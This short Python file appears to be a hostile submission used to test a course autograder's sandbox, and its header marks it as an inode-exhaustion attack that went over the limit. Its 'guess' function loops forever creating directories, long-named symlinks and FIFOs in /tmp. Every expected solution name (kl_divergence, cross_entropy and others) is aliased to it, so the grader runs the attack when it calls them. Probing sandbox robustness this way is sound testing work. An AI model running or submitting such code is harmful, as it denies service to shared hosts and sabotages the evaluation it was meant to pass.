# attack: a million empty files, links and folders: no byte, but every inode
# status: over limit
# points: 0
import os
import sys

if "course_lib" in sys.modules:
    raise SystemExit("only for a sandbox")


def guess(*args):
    number = 0
    while True:
        os.mkdir(f"/tmp/many-{number}")
        os.symlink("nowhere", f"/tmp/many-{number}/{'l' * 200}")
        os.mkfifo(f"/tmp/many-{number}/fifo")
        number += 1


kl_divergence = cross_entropy = js_divergence = gaussian_kl = monte_carlo_kl = guess
